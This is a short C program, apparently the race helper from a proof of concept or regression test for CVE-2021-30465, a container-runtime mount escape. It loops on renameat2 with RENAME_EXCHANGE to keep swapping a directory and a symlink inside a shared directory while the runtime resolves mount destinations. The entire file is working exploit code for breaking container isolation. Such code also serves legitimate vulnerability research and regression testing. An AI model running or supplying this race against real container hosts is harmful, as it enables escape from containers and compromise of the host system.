/* swapper A B SECONDS: exchange the names A and B (renameat2
 * RENAME_EXCHANGE, atomic) as fast as possible for SECONDS, or until A's
 * directory holds a file "stop".  Run inside a container on a shared
 * directory, it swaps a real directory for a symlink under the feet of a
 * runtime that is resolving mount destinations there (CVE-2021-30465). */
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	char stop[4096], tmp[4096];
	struct timespec t0, t;
	long n = 0;

	if (argc != 4)
		return 2;
	snprintf(tmp, sizeof(tmp), "%s", argv[1]);
	snprintf(stop, sizeof(stop), "%s/stop", dirname(tmp));
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD,
			    argv[2], RENAME_EXCHANGE) == 0)
			n++;
		if ((n & 1023) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &t);
			if (t.tv_sec - t0.tv_sec >= atol(argv[3]) ||
			    access(stop, F_OK) == 0)
				break;
		}
	}
	printf("swapped %ld times\n", n);
	return 0;
}
